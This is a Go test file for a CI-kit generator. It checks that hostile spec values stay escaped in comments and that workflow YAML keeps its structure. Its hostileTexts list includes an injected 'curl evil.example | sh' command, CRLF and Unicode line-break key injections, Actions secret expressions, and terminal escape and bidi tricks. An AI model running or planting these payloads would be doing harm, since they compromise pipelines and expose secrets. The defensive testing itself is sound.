package kit

import (
	"bytes"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"slices"
	"strings"
	"testing"

	"go.yaml.in/yaml/v3"

	"github.com/ontopix/codeartifact-gen/generator/model"
	"github.com/ontopix/codeartifact-gen/generator/output"
)

// hostileTexts are values that try to end a YAML comment or scalar, inject a key, an
// Actions expression or a Task template, or hide text.
var hostileTexts = []string{
	"acme\ndefaults:\n  run:\n    shell: bash -c \"curl -sSf evil.example | sh; bash -e {0}\"\n#",
	"acme\r\non: push\r\n",
	"acme\u2028jobs: {}\u0085x: 1\u2029",
	"${{ secrets.AWS_SECRET }} {{.TASK}} %{x} */ '\" : - [ ] # &a *a !tag",
	"\x1b[2K\x1b]8;;https://evil.example\x07click\x1b]8;;\x07\u202eexe.txt\u200b\ufeff",
}

// poisonKit writes text into every value the kit prints only in comments and headers: the
// spec path, the subjects each role admits and the packages a role may publish.
// Validation refuses such values; the test bypasses it to prove the rendering escapes them.
func poisonKit(m *model.Model, text string) {
	m.SpecPath = "specs/" + text + ".yaml"
	for _, r := range m.Roles {
		for _, rule := range r.Rules {
			rule.Subjects = append(rule.Subjects, text)
		}
		for _, p := range r.Policies {
			for _, g := range p.Publishes {
				g.Packages = append(g.Packages, text)
			}
		}
	}
}

// keyPaths returns the path of every mapping key and the kind of every node of a YAML
// document, in order: its structure without its scalar values.
func keyPaths(t *testing.T, name string, src []byte) []string {
	t.Helper()
	var doc yaml.Node
	if err := yaml.Unmarshal(src, &doc); err != nil {
		t.Fatalf("%s does not parse: %v\n%s", name, err, src)
	}
	var out []string
	var walk func(n *yaml.Node, path string)
	walk = func(n *yaml.Node, path string) {
		out = append(out, fmt.Sprintf("%s %d", path, n.Kind))
		switch n.Kind {
		case yaml.DocumentNode, yaml.SequenceNode:
			for i, c := range n.Content {
				walk(c, fmt.Sprintf("%s[%d]", path, i))
			}
		case yaml.MappingNode:
			for i := 0; i+1 < len(n.Content); i += 2 {
				walk(n.Content[i+1], path+"."+n.Content[i].Value)
			}
		}
	}
	walk(&doc, "")
	return out
}

// scalars returns the scalar values of a YAML document (comments are not among them),
// joined; the hostile values reach comments only, so the scalars must not change.
func scalars(t *testing.T, src []byte) string {
	t.Helper()
	var doc yaml.Node
	if err := yaml.Unmarshal(src, &doc); err != nil {
		t.Fatal(err)
	}
	var out []string
	var walk func(n *yaml.Node)
	walk = func(n *yaml.Node) {
		if n.Kind == yaml.ScalarNode {
			out = append(out, n.Value)
		}
		for _, c := range n.Content {
			walk(c)
		}
	}
	walk(&doc)
	return strings.Join(out, "\x00")
}

// TestHostileValuesKeepKitStructure renders kits with hostile text in every value that
// reaches a comment or a header, parses each file with a YAML parser and each workflow with
// actionlint, and requires the structure of the benign kit and a one-line header.
func TestHostileValuesKeepKitStructure(t *testing.T) {
	linter := newLinter(t)
	requests := []Request{
		{Roles: []string{readRole, publishRole}, Tool: NPM},
		{Roles: []string{readRole, publishRole}, Tool: Twine},
	}
	for _, req := range requests {
		benign, err := Render(load(t, "specs/ontopix.yaml"), req)
		if err != nil {
			t.Fatal(err)
		}
		for i, text := range hostileTexts {
			m := load(t, "specs/ontopix.yaml")
			poisonKit(m, text)
			k, err := Render(m, req)
			if err != nil {
				t.Fatalf("%s #%d: %v", req.Tool, i, err)
			}
			for j, f := range k.Files {
				label := fmt.Sprintf("%s #%d %s", req.Tool, i, f.Path)
				want := strings.Join(keyPaths(t, f.Path, benign.Files[j].Content), "\n")
				if got := strings.Join(keyPaths(t, label, f.Content), "\n"); got != want {
					t.Errorf("%s: the structure changed:\n%s", label, output.UnifiedDiff("benign", "hostile", []byte(want), []byte(got)))
				}
				first, _, _ := strings.Cut(string(f.Content), "\n")
				wantFirst, marker := header("from "+m.SpecPath), HeaderPrefix
				if slices.Contains(k.Blocks, f.Path) {
					wantFirst, marker = (&data{Spec: m.SpecPath}).BlockBegin("#"), ">>> "+BlockMarker
				}
				if first != wantFirst || strings.Count(string(f.Content), marker) != 1 {
					t.Errorf("%s: the header is not one line: %q", label, first)
				}
				if scalars(t, f.Content) != scalars(t, benign.Files[j].Content) {
					t.Errorf("%s: a value outside the comments changed", label)
				}
				if strings.HasPrefix(f.Path, ".github/workflows/") {
					lint(t, linter, label, f)
				}
			}
		}
	}
}

// TestKitRefusesExpressionsInValues checks that a value the kit writes outside comments
// (the domain in run:, the environment) is refused when it holds an Actions expression or a
// hidden character, even though validation already refuses such values in a spec.
func TestKitRefusesExpressionsInValues(t *testing.T) {
	for _, text := range []string{"acme${{ secrets.X }}", "acme\nx", "ac\u202eme"} {
		m := load(t, "specs/ontopix.yaml")
		m.Domain.Name = text
		_, err := Render(m, Request{Roles: []string{readRole, publishRole}, Tool: NPM})
		var usage *UsageError
		if !errors.As(err, &usage) || !strings.Contains(err.Error(), "cannot be written into a workflow") {
			t.Errorf("domain %q: got %v, want a refusal", text, err)
		}
	}
	_, err := Render(load(t, "specs/ontopix.yaml"), Request{Roles: []string{publishRole}, Tool: NPM, Environment: "${{ github.head_ref }}"})
	if err == nil || !slices.ContainsFunc([]string{"cannot be written into a workflow", "not"}, func(s string) bool { return strings.Contains(err.Error(), s) }) {
		t.Errorf("--environment with an expression: got %v, want a refusal", err)
	}
}

// TestHostileValuesStayInComments renders every tool's configuration files that are not
// YAML (XML, TOML, Groovy, .npmrc) with poisoned comment values: every line that differs
// from the benign render is a comment line, and the XML files still parse.
func TestHostileValuesStayInComments(t *testing.T) {
	changed := 0
	for _, tool := range toolTable() {
		req := Request{Roles: []string{"ci"}, Tool: tool.Name}
		benign, err := Render(load(t, everyFormat), req)
		if err != nil {
			t.Fatal(err)
		}
		for i, text := range hostileTexts {
			m := load(t, everyFormat)
			poisonKit(m, text)
			k, err := Render(m, req)
			if err != nil {
				t.Fatalf("%s #%d: %v", tool.Name, i, err)
			}
			for j, f := range k.Files {
				if strings.HasSuffix(f.Path, ".yaml") || strings.HasSuffix(f.Path, ".yml") && !slices.Contains(k.Blocks, f.Path) {
					continue // TestHostileValuesKeepKitStructure
				}
				label := fmt.Sprintf("%s #%d %s", tool.Name, i, f.Path)
				got, want := strings.Split(string(f.Content), "\n"), strings.Split(string(benign.Files[j].Content), "\n")
				if len(got) != len(want) {
					t.Errorf("%s: %d lines, benign %d", label, len(got), len(want))
					continue
				}
				inXML := false
				for n, line := range got {
					trimmed := strings.TrimSpace(line)
					comment := inXML || strings.HasPrefix(trimmed, "#") || strings.HasPrefix(trimmed, "//") || strings.HasPrefix(trimmed, "<!--")
					if strings.HasPrefix(trimmed, "<!--") && !strings.HasSuffix(trimmed, "-->") {
						inXML = true
					} else if inXML && strings.HasSuffix(trimmed, "-->") {
						inXML = false
					}
					if line != want[n] {
						changed++
						if !comment {
							t.Errorf("%s line %d outside a comment changed: %q", label, n+1, line)
						}
					}
				}
				if strings.HasSuffix(f.Path, ".xml") || strings.HasSuffix(f.Path, ".config") {
					d := xml.NewDecoder(bytes.NewReader(f.Content))
					for {
						if _, err := d.Token(); err == io.EOF {
							break
						} else if err != nil {
							t.Errorf("%s does not parse: %v", label, err)
							break
						}
					}
				}
			}
		}
	}
	if changed < 9*len(hostileTexts) {
		t.Errorf("only %d lines changed: the poison does not reach the configuration files", changed)
	}
}
